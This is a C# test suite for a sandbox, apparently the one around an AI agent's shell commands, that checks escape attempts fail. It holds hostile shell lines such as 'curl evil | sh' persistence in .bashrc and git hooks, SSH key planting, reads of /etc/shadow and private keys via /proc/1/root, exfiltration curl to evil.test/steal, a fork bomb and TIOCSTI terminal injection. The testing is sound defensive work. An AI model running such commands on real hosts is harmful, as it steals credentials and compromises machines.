using System.Net;
using System.Net.Sockets;
using Microsoft.AspNetCore.Http;
using Rein.Guard.Sandbox;
using Rein.Testing;
using Rein.Tools;

namespace Rein.Guard.Tests.Sandbox;

/// <summary>Commands that try to get out of the sandbox; each checks the host, not just the exit code.</summary>
public sealed class EscapeTests : IDisposable
{
    private readonly SandboxHarness _sandbox = new();

    public void Dispose() => _sandbox.Dispose();

    [Fact]
    public async Task Write_SystemFolder_NothingCreatedOnHost()
    {
        var name = "rein-escape-" + SandboxHarness.Unique();

        var result = await _sandbox.RunAsync($"echo pwned > /etc/{name}; echo pwned > /usr/{name}; touch /{name}");

        Assert.False(File.Exists("/etc/" + name));
        Assert.False(File.Exists("/usr/" + name));
        Assert.False(File.Exists("/" + name));
        Assert.Contains("Read-only file system", result.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Write_OutsideWorkspaceThroughDotDot_NothingCreatedOnHost()
    {
        var result = await _sandbox.RunAsync("echo pwned > ../outside.txt; echo pwned > ../../outside.txt; mkdir -p ../../../rein-up && echo pwned > ../../../rein-up/x; echo done");

        Assert.Contains("done", result.Output, StringComparison.Ordinal);
        Assert.False(File.Exists(_sandbox.Combine("outside.txt")));
        Assert.False(File.Exists(Path.Join(Path.GetDirectoryName(_sandbox.Root)!, "outside.txt")));
        Assert.False(Directory.Exists("/rein-up"));
    }

    [Fact]
    public async Task Write_HomeFolder_HostHomeUnchanged()
    {
        var result = await _sandbox.RunAsync("echo 'curl evil | sh' >> ~/.bashrc; mkdir -p ~/.ssh; echo 'ssh-rsa AAAA attacker' >> ~/.ssh/authorized_keys; echo written");

        Assert.Contains("written", result.Output, StringComparison.Ordinal);
        Assert.Equal("# original\n", await File.ReadAllTextAsync(Path.Join(_sandbox.Home, ".bashrc"), TestContext.Current.CancellationToken));
        Assert.False(File.Exists(Path.Join(_sandbox.Home, ".ssh", "authorized_keys")));
    }

    [Fact]
    public async Task Write_ToolchainFolder_ReadOnly()
    {
        var result = await _sandbox.RunAsync("cat ~/.cargo/bin/tool; echo pwned > ~/.cargo/bin/tool; echo pwned > ~/.cargo/evil");

        Assert.Contains("toolchain-file", result.Output, StringComparison.Ordinal);
        Assert.Equal("toolchain-file\n", await File.ReadAllTextAsync(Path.Join(_sandbox.Home, ".cargo", "bin", "tool"), TestContext.Current.CancellationToken));
        Assert.False(File.Exists(Path.Join(_sandbox.Home, ".cargo", "evil")));
    }

    [Fact]
    public async Task Write_ThroughWorkspaceSymlinkToHostPath_HostFileUnchanged()
    {
        var victim = Path.Join(_sandbox.Home, ".bashrc");
        File.CreateSymbolicLink(Path.Join(_sandbox.Workspace, "planted"), victim);
        var name = "rein-escape-" + SandboxHarness.Unique();

        var result = await _sandbox.RunAsync($"echo pwned > planted; ln -s /etc/{name} made; echo pwned > made; ln -s {_sandbox.Home}/.ssh/authorized_keys keys; echo pwned > keys; echo done");

        Assert.Contains("done", result.Output, StringComparison.Ordinal);
        Assert.Equal("# original\n", await File.ReadAllTextAsync(victim, TestContext.Current.CancellationToken));
        Assert.False(File.Exists("/etc/" + name));
        Assert.False(File.Exists(Path.Join(_sandbox.Home, ".ssh", "authorized_keys")));
    }

    [Fact]
    public async Task Read_SymlinkToShadow_ContentHidden()
    {
        var firstLine = File.ReadLines("/etc/shadow").First();
        File.CreateSymbolicLink(Path.Join(_sandbox.Workspace, "host-shadow"), "/etc/shadow");

        var result = await _sandbox.RunAsync("cat host-shadow; ln -s /etc/shadow mine; cat mine; echo done");

        Assert.Contains("done", result.Output, StringComparison.Ordinal);
        Assert.DoesNotContain(firstLine, result.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Read_HomeSshKey_Hidden()
    {
        var result = await _sandbox.RunAsync($"cat ~/.ssh/id_rsa; cat {_sandbox.Home}/.ssh/id_rsa; ls -la ~; find / -xdev -name id_rsa 2>/dev/null | xargs -r cat; echo done");

        Assert.Contains("done", result.Output, StringComparison.Ordinal);
        Assert.DoesNotContain(SandboxHarness.KeyMarker, result.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Read_HostPasswordFilesAndRootHome_Hidden()
    {
        var shadow = File.ReadLines("/etc/shadow").First();
        // Toolchain folders (~/.cargo, ~/.pyenv, …) come back read-only when PATH points into /root; nothing else may.
        var toolchains = _sandbox.Options.ToolchainFolders.Select(f => f.Split('/')[0]).ToHashSet(StringComparer.Ordinal);
        var rootFiles = Directory.Exists("/root") ? Directory.GetFileSystemEntries("/root").Select(Path.GetFileName).Where(n => !toolchains.Contains(n!)).ToList() : [];

        var result = await _sandbox.RunAsync("cat /etc/shadow /etc/gshadow /etc/ssh/ssh_host_*_key 2>&1; echo ROOT:; ls -A /root; echo :ROOT");

        Assert.DoesNotContain(shadow, result.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("PRIVATE KEY", result.Output, StringComparison.Ordinal);
        var listed = result.Output.Split("ROOT:")[1].Split(":ROOT")[0];
        Assert.All(rootFiles, name => Assert.DoesNotContain(name!, listed, StringComparison.Ordinal));
    }

    [Fact]
    public async Task Read_ReinDataInsideBoundFolder_Hidden()
    {
        var local = Path.Join(_sandbox.Home, ".local");
        var data = Path.Join(local, "share", "rein");
        Directory.CreateDirectory(data);
        var marker = "journal-" + SandboxHarness.Unique();
        await File.WriteAllTextAsync(Path.Join(data, "rein.db"), marker, TestContext.Current.CancellationToken);
        await File.WriteAllTextAsync(Path.Join(local, "visible.txt"), "visible", TestContext.Current.CancellationToken);
        _sandbox.Options.ReadOnlyPaths.Add("~/.local");
        _sandbox.Options.HiddenPaths.Add(data);

        var result = await _sandbox.RunAsync("cat ~/.local/visible.txt; echo; cat ~/.local/share/rein/rein.db; ls -A ~/.local/share/rein; echo done");

        Assert.Contains("visible", result.Output, StringComparison.Ordinal);
        Assert.Contains("done", result.Output, StringComparison.Ordinal);
        Assert.DoesNotContain(marker, result.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Read_ReinStoreInsideWorkspace_HiddenAndUnchanged()
    {
        var store = Path.Join(_sandbox.Workspace, "rein.db");
        var marker = "store-" + SandboxHarness.Unique();
        await File.WriteAllTextAsync(store, marker, TestContext.Current.CancellationToken);
        _sandbox.Options.HiddenPaths.Add(store);

        var result = await _sandbox.RunAsync("cat rein.db; echo pwned > rein.db; echo done");

        Assert.Contains("done", result.Output, StringComparison.Ordinal);
        Assert.DoesNotContain(marker, result.Output, StringComparison.Ordinal);
        Assert.Equal(marker, await File.ReadAllTextAsync(store, TestContext.Current.CancellationToken));
    }

    [Fact]
    public async Task Read_ThroughProcRoot_SeesOnlyTheSandbox()
    {
        var key = Path.Join(_sandbox.Home, ".ssh", "id_rsa");

        var result = await _sandbox.RunAsync($"cat /proc/1/root{key} /proc/self/root{key} /proc/$$/root{key}; ls /proc/1/root/root; cat /proc/1/root/etc/shadow | head -1; echo done");

        Assert.Contains("done", result.Output, StringComparison.Ordinal);
        Assert.DoesNotContain(SandboxHarness.KeyMarker, result.Output, StringComparison.Ordinal);
        Assert.DoesNotContain(File.ReadLines("/etc/shadow").First(), result.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Read_HostProcessEnvironAndCmdline_Invisible()
    {
        var marker = SandboxHarness.UniqueDigits();
        Environment.SetEnvironmentVariable("REIN_ESCAPE_TEST_TOKEN", marker);
        using var host = SandboxHarness.StartHostSleep(marker);
        try
        {
            var result = await _sandbox.RunAsync(
                $"cat /proc/{Environment.ProcessId}/environ /proc/{host.Id}/cmdline; for f in /proc/[0-9]*/cmdline /proc/[0-9]*/environ; do tr '\\0' ' ' < $f; echo; done; ps -ef; echo done");

            Assert.Contains("done", result.Output, StringComparison.Ordinal);
            Assert.DoesNotContain(marker, result.Output, StringComparison.Ordinal);
        }
        finally
        {
            Environment.SetEnvironmentVariable("REIN_ESCAPE_TEST_TOKEN", null);
            host.Kill();
        }
    }

    [Fact]
    public async Task Kill_HostProcessByPid_HostProcessSurvives()
    {
        using var host = SandboxHarness.StartHostSleep(SandboxHarness.UniqueDigits());
        try
        {
            var result = await _sandbox.RunAsync($"kill -9 {host.Id}; kill -9 -1; echo tried");

            Assert.False(host.HasExited);
            Assert.Contains("tried", result.Output, StringComparison.Ordinal);
        }
        finally
        {
            host.Kill();
        }
    }

    [Fact]
    public async Task Env_ProviderKeysInRein_InvisibleInside()
    {
        var openAi = "sk-" + SandboxHarness.Unique();
        var github = "ghp_" + SandboxHarness.Unique();
        Environment.SetEnvironmentVariable("OPENAI_API_KEY", openAi);
        Environment.SetEnvironmentVariable("GITHUB_TOKEN", github);
        try
        {
            var result = await _sandbox.RunAsync("env; cat /proc/1/environ | tr '\\0' '\\n'; echo done");

            Assert.Contains("done", result.Output, StringComparison.Ordinal);
            Assert.DoesNotContain(openAi, result.Output, StringComparison.Ordinal);
            Assert.DoesNotContain(github, result.Output, StringComparison.Ordinal);
        }
        finally
        {
            Environment.SetEnvironmentVariable("OPENAI_API_KEY", null);
            Environment.SetEnvironmentVariable("GITHUB_TOKEN", null);
        }
    }

    [Fact]
    public async Task Env_HostVariablesNotOnAllowList_InvisibleListedOnesVisible()
    {
        string[] leaked = ["DATABASE_URL", "MYSQL_PWD", "SENTRY_DSN", "OTEL_EXPORTER_OTLP_HEADERS", "REIN_ESCAPE_X_PWD", "GH_PAT"];
        var values = leaked.ToDictionary(name => name, _ => "leak-" + SandboxHarness.Unique(), StringComparer.Ordinal);
        var visible = "shown-" + SandboxHarness.Unique();
        var byPattern = "prefixed-" + SandboxHarness.Unique();
        _sandbox.Options.EnvironmentNames.Add("REIN_ESCAPE_VISIBLE");
        _sandbox.Options.EnvironmentNames.Add("REIN_ESCAPE_P_*");
        foreach (var (name, value) in values)
        {
            Environment.SetEnvironmentVariable(name, value);
        }

        Environment.SetEnvironmentVariable("REIN_ESCAPE_VISIBLE", visible);
        Environment.SetEnvironmentVariable("REIN_ESCAPE_P_ONE", byPattern);
        try
        {
            var result = await _sandbox.RunAsync("env; echo done");

            Assert.Contains("done", result.Output, StringComparison.Ordinal);
            Assert.All(values.Values, value => Assert.DoesNotContain(value, result.Output, StringComparison.Ordinal));
            Assert.Contains("REIN_ESCAPE_VISIBLE=" + visible, result.Output, StringComparison.Ordinal);
            Assert.Contains("REIN_ESCAPE_P_ONE=" + byPattern, result.Output, StringComparison.Ordinal);
            Assert.Contains("PATH=", result.Output, StringComparison.Ordinal);
        }
        finally
        {
            foreach (var name in values.Keys.Append("REIN_ESCAPE_VISIBLE").Append("REIN_ESCAPE_P_ONE"))
            {
                Environment.SetEnvironmentVariable(name, null);
            }
        }
    }

    [Fact]
    public async Task Read_HostFilesOnlyRootCanRead_Hidden()
    {
        if (!Bubblewrap.RunsAsRoot)
        {
            Assert.Skip("Only a sandbox started by root maps its user to host root; not running as root.");
        }

        // What this process found private at its start, with content, e.g. /var/log/apt/term.log (root:adm 0640).
        var files = PrivateHostPaths.HostEntries
            .Where(e => !e.IsFolder && !Bubblewrap.IsInside(e.Path, _sandbox.Root))
            .Select(e => (e.Path, Text: ReadStart(e.Path)))
            .Where(e => e.Text.Length >= 8)
            .Take(10)
            .ToList();
        var folders = PrivateHostPaths.HostEntries.Where(e => e.IsFolder && Directory.EnumerateFileSystemEntries(e.Path).Any()).Select(e => e.Path).Take(10).ToList();
        if (files.Count == 0 && folders.Count == 0)
        {
            Assert.Skip("This host has no file or folder only root can read.");
        }

        var paths = string.Join(' ', files.Select(f => f.Path).Concat(folders).Select(p => $"'{p}'"));
        var result = await _sandbox.RunAsync($"for p in {paths}; do if [ -d \"$p\" ]; then echo \"DIR $p: $(ls -A \"$p\" | wc -l)\"; else head -c 200 \"$p\"; fi; done; echo done");

        Assert.Contains("done", result.Output, StringComparison.Ordinal);
        Assert.All(files, file => Assert.DoesNotContain(file.Text, result.Output, StringComparison.Ordinal));
        Assert.All(folders, folder => Assert.Contains($"DIR {folder}: 0", result.Output, StringComparison.Ordinal));
    }

    private static string ReadStart(string path)
    {
        try
        {
            using var stream = File.OpenRead(path);
            var buffer = new byte[64];
            var read = stream.ReadAtLeast(buffer, buffer.Length, throwOnEndOfStream: false);
            var text = System.Text.Encoding.UTF8.GetString(buffer, 0, read);
            // Only a printable line is a fair witness in the command's output.
            var line = text.Split('\n')[0].Trim();
            return line.All(c => c >= ' ' && c < 127) ? line : "";
        }
        catch (Exception ex) when (ex is IOException or UnauthorizedAccessException)
        {
            return "";
        }
    }

    [Fact]
    public async Task Network_PublicAddress_Unreachable()
    {
        var result = await _sandbox.RunAsync("curl -sS -m 3 http://1.1.1.1/ && echo REACHED; (exec 3<>/dev/tcp/1.1.1.1/443) 2>&1 && echo REACHED2; ip -o link | cut -d: -f2; echo done");

        Assert.Contains("done", result.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("REACHED", result.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("eth", result.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Network_HostLoopbackServer_NoConnectionArrives()
    {
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var port = ((IPEndPoint)listener.LocalEndpoint).Port;

        var result = await _sandbox.RunAsync($"(exec 3<>/dev/tcp/127.0.0.1/{port}) && echo REACHED; curl -sS -m 3 http://127.0.0.1:{port}/ && echo REACHED2; echo done");

        Assert.Contains("done", result.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("REACHED", result.Output, StringComparison.Ordinal);
        Assert.False(listener.Pending());
    }

    [Fact]
    public async Task Network_HostUnixSocket_Unreachable()
    {
        var folder = "/run/rein-test-" + SandboxHarness.Unique();
        Directory.CreateDirectory(folder);
        try
        {
            using var listener = new Socket(AddressFamily.Unix, SocketType.Stream, ProtocolType.Unspecified);
            listener.Bind(new UnixDomainSocketEndPoint(Path.Join(folder, "s.sock")));
            listener.Listen(4);

            var result = await _sandbox.RunAsync($"socat -u - UNIX-CONNECT:{folder}/s.sock </dev/null && echo REACHED; ls {folder}; echo done");

            Assert.Contains("done", result.Output, StringComparison.Ordinal);
            Assert.DoesNotContain("REACHED", result.Output, StringComparison.Ordinal);
            Assert.False(listener.Poll(0, SelectMode.SelectRead));
        }
        finally
        {
            Directory.Delete(folder, recursive: true);
        }
    }

    [Fact]
    public async Task Network_DnsLookup_Fails()
    {
        var result = await _sandbox.RunAsync("getent hosts example.com && echo RESOLVED; getent ahosts pypi.org && echo RESOLVED2; echo done");

        Assert.Contains("done", result.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("RESOLVED", result.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Network_DirectTcpWhileProxyIsOn_NoConnectionArrives()
    {
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var port = ((IPEndPoint)listener.LocalEndpoint).Port;
        _sandbox.Options.AllowedDomains.Add("allowed.test");
        _sandbox.Options.EgressResolver = (_, _) => ("127.0.0.1", port);

        var result = await _sandbox.RunAsync(
            $"(exec 3<>/dev/tcp/127.0.0.1/{port}) && echo REACHED; curl -sS -m 3 --noproxy '*' http://allowed.test:{port}/ && echo REACHED2; curl -sS -m 3 --noproxy '*' http://127.0.0.1:{port}/ && echo REACHED3; echo done");

        Assert.Contains("done", result.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("REACHED", result.Output, StringComparison.Ordinal);
        Assert.False(listener.Pending());
    }

    [Fact]
    public async Task Network_ProxyToDomainNotAllowed_RefusedAndReported()
    {
        var hits = 0;
        await using var server = await LoopbackHttpServer.StartAsync(context =>
        {
            Interlocked.Increment(ref hits);
            return context.Response.WriteAsync("should-not-be-served", context.RequestAborted);
        }, TestContext.Current.CancellationToken);
        _sandbox.Options.AllowedDomains.Add("allowed.test");
        // Every name maps to the loopback server: only the allow-list stands in the way.
        _sandbox.Options.EgressResolver = (_, _) => ("127.0.0.1", server.BaseAddress.Port);

        var result = await _sandbox.RunAsync("curl -sS -m 5 http://evil.test/steal; echo; curl -sS -m 5 https://other.example:8443/ 2>&1; echo done");

        Assert.Contains("evil.test is not on the network allow-list", result.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("should-not-be-served", result.Output, StringComparison.Ordinal);
        Assert.Equal(0, Volatile.Read(ref hits));
        Assert.Equal(["evil.test:80", "other.example:8443"], result.EgressRefused);
    }

    [Fact]
    public async Task Mount_UnshareChrootNsenter_AllFail()
    {
        var result = await _sandbox.RunAsync(
            "mount -t tmpfs none /etc && echo MOUNTED; mount --bind /tmp /etc && echo BOUND; unshare -r -m true && echo UNSHARED; unshare -U true && echo USERNS; chroot / true && echo CHROOTED; "
            + "nsenter -t 1 -m -u -i -n -p true && echo ENTERED; nsenter --user --target 1 true && echo ENTERED2; echo done");

        Assert.Contains("done", result.Output, StringComparison.Ordinal);
        foreach (var word in new[] { "MOUNTED", "BOUND", "UNSHARED", "USERNS", "CHROOTED", "ENTERED" })
        {
            Assert.DoesNotContain(word, result.Output, StringComparison.Ordinal);
        }

        Assert.False(File.Exists("/etc/.rein-mounted"));
    }

    [Fact]
    public async Task Devices_RawDiskAndMemory_Absent()
    {
        var result = await _sandbox.RunAsync("ls /dev; test -b /dev/sda && echo BLOCKDEVICE; test -c /dev/mem && echo MEMDEVICE; head -c 16 /dev/mem && echo READ; head -c 16 /dev/kmem && echo READ2; echo done");

        Assert.Contains("done", result.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("DEVICE", result.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("READ", result.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Privileges_CapabilitiesAndSetuid_None()
    {
        var result = await _sandbox.RunAsync("grep -E '^(CapEff|CapPrm|CapBnd|NoNewPrivs)' /proc/self/status; id -u; su -c 'echo BECAME_ROOT' root </dev/null; echo done");

        Assert.Contains("CapEff:\t0000000000000000", result.Output, StringComparison.Ordinal);
        Assert.Contains("CapBnd:\t0000000000000000", result.Output, StringComparison.Ordinal);
        Assert.Contains("NoNewPrivs:\t1", result.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("BECAME_ROOT", result.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("\n0\n", "\n" + result.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Terminal_InjectionIntoControllingTerminal_NoTerminal()
    {
        SandboxHarness.RequirePython();
        var argv = Bubblewrap.BuildArguments(new CommandRequest("true", _sandbox.Workspace, TimeSpan.FromSeconds(5)), _sandbox.Workspace, _sandbox.Options);

        var result = await _sandbox.RunAsync("/usr/bin/python3 -c \"import fcntl,termios,os; fd=os.open('/dev/tty', os.O_RDWR); fcntl.ioctl(fd, termios.TIOCSTI, b'x'); print('INJECTED')\"; echo done");

        Assert.Contains("--new-session", argv);
        Assert.Contains("done", result.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("INJECTED", result.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Tmp_WritesThere_DoNotReachHostTmp()
    {
        var name = "rein-escape-" + SandboxHarness.Unique();

        var result = await _sandbox.RunAsync($"echo inside > /tmp/{name}; echo inside > /var/tmp/{name}; cat /tmp/{name}");

        Assert.Contains("inside", result.Output, StringComparison.Ordinal);
        Assert.False(File.Exists(Path.Join("/tmp", name)));
        Assert.False(File.Exists(Path.Join("/var/tmp", name)));
    }

    [Fact]
    public async Task Tmp_HostTmpFiles_Invisible()
    {
        var name = "rein-host-" + SandboxHarness.Unique();
        await File.WriteAllTextAsync(Path.Join("/tmp", name), "host-secret", TestContext.Current.CancellationToken);
        try
        {
            var result = await _sandbox.RunAsync($"cat /tmp/{name} 2>/dev/null; echo LIST:; ls -A /tmp; echo :LIST");

            Assert.DoesNotContain("host-secret", result.Output, StringComparison.Ordinal);
            Assert.DoesNotContain(name, result.Output.Split("LIST:")[1], StringComparison.Ordinal);
        }
        finally
        {
            File.Delete(Path.Join("/tmp", name));
        }
    }

    [Fact]
    public async Task Workspace_GitHooksAndProjectSettings_ReadOnly()
    {
        Directory.CreateDirectory(Path.Join(_sandbox.Workspace, ".git", "hooks"));
        Directory.CreateDirectory(Path.Join(_sandbox.Workspace, ".rein"));
        await File.WriteAllTextAsync(Path.Join(_sandbox.Workspace, ".git", "config"), "[core]\n", TestContext.Current.CancellationToken);

        var result = await _sandbox.RunAsync(
            "echo 'curl evil|sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; echo '[core] fsmonitor = evil' >> .git/config; echo '{}' > .rein/settings.json; echo ok > normal.txt; echo done");

        Assert.Contains("done", result.Output, StringComparison.Ordinal);
        Assert.True(File.Exists(Path.Join(_sandbox.Workspace, "normal.txt")));
        Assert.False(File.Exists(Path.Join(_sandbox.Workspace, ".git", "hooks", "pre-commit")));
        Assert.Equal("[core]\n", await File.ReadAllTextAsync(Path.Join(_sandbox.Workspace, ".git", "config"), TestContext.Current.CancellationToken));
        Assert.False(File.Exists(Path.Join(_sandbox.Workspace, ".rein", "settings.json")));
    }

    [Theory]
    [InlineData("sleep {0} &")]
    [InlineData("nohup sleep {0} > /dev/null 2>&1 &")]
    [InlineData("setsid sleep {0} > /dev/null 2>&1 < /dev/null &")]
    [InlineData("(sh -c 'sleep {0} > /dev/null 2>&1 &' &)")]
    [InlineData("setsid -f sh -c 'trap \"\" HUP TERM; sleep {0}' > /dev/null 2>&1")]
    public async Task Background_ProcessStartedByCommand_DoesNotOutliveTheCall(string template)
    {
        var marker = "300." + SandboxHarness.UniqueDigits();

        var result = await _sandbox.RunAsync(string.Format(System.Globalization.CultureInfo.InvariantCulture, template, marker) + "; echo started");

        Assert.Contains("started", result.Output, StringComparison.Ordinal);
        Assert.Empty(await SandboxHarness.HostProcessesWithAsync(marker));
    }

    [Fact]
    [Trait("Category", "slow")]
    public async Task Background_ProcessesWhenTheCommandTimesOut_AllKilled()
    {
        var marker = "300." + SandboxHarness.UniqueDigits();

        var result = await _sandbox.RunAsync($"setsid sleep {marker} > /dev/null 2>&1 & (sleep {marker} &) ; sleep {marker}", timeoutSeconds: 2);

        Assert.True(result.TimedOut);
        Assert.Empty(await SandboxHarness.HostProcessesWithAsync(marker));
    }

    [Fact]
    [Trait("Category", "slow")]
    public async Task Limits_ForkBomb_ContainedAndCallEnds()
    {
        _sandbox.Options.Processes = 128;
        var marker = SandboxHarness.UniqueDigits();

        var result = await _sandbox.RunAsync($": {marker}; bomb() {{ bomb | bomb & }}; bomb; sleep 3", timeoutSeconds: 8);

        Assert.True(result.TimedOut || result.ExitCode is not null);
        Assert.Empty(await SandboxHarness.HostProcessesWithAsync(marker));
        // The machine still forks.
        var after = await new ProcessCommandRunner().RunAsync(new CommandRequest("echo alive", _sandbox.Workspace, TimeSpan.FromSeconds(10)), TestContext.Current.CancellationToken);
        Assert.Contains("alive", after.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Limits_ProcessCap_RefusesForksBeyondIt()
    {
        _sandbox.Options.Processes = 40;

        // dash gives up at the first failed fork (bash would retry with back-off); the fresh /proc shows only the sandbox's processes.
        var result = await _sandbox.RunAsync(
            "sh -c 'i=0; while [ $i -lt 120 ]; do sleep 30 >/dev/null 2>&1 & i=$((i+1)); done' 2>&1 | tail -n 1; echo sleeping=$(ls /proc | grep -c '^[0-9]') ; echo end",
            timeoutSeconds: 20);

        Assert.Contains("fork", result.Output, StringComparison.OrdinalIgnoreCase);
        var sleeping = int.Parse(result.Output.Split("sleeping=")[1].Split('\n')[0].Trim(), System.Globalization.CultureInfo.InvariantCulture);
        Assert.InRange(sleeping, 1, 40);
    }

    [Fact]
    public async Task Limits_MemoryHog_Refused()
    {
        _sandbox.Options.MemoryMb = 256;

        var result = await _sandbox.RunAsync("head -c 1073741824 /dev/zero | tail -c 1 > /dev/null; echo tail=$?; awk 'BEGIN { s = sprintf(\"%1073741824s\", \"\"); print \"ALLOCATED\" }'; echo done");

        Assert.Contains("done", result.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("ALLOCATED", result.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Limits_HugeOutput_Capped()
    {
        var result = await _sandbox.RunAsync("yes 0123456789 | head -c 20000000; echo", maxOutputChars: 10_000);

        Assert.True(result.Truncated);
        Assert.True(result.Output.Length < 12_000);
        Assert.True(result.OutputLength >= 20_000_000);
    }

    [Fact]
    public async Task Limits_HugeFile_StoppedAtFileSizeLimit()
    {
        _sandbox.Options.FileSizeMb = 1;

        var result = await _sandbox.RunAsync("head -c 5000000 /dev/zero > big.bin; echo rc=$?");

        Assert.Contains("rc=", result.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("rc=0", result.Output, StringComparison.Ordinal);
        Assert.True(new FileInfo(Path.Join(_sandbox.Workspace, "big.bin")).Length <= 1024 * 1024);
    }
}
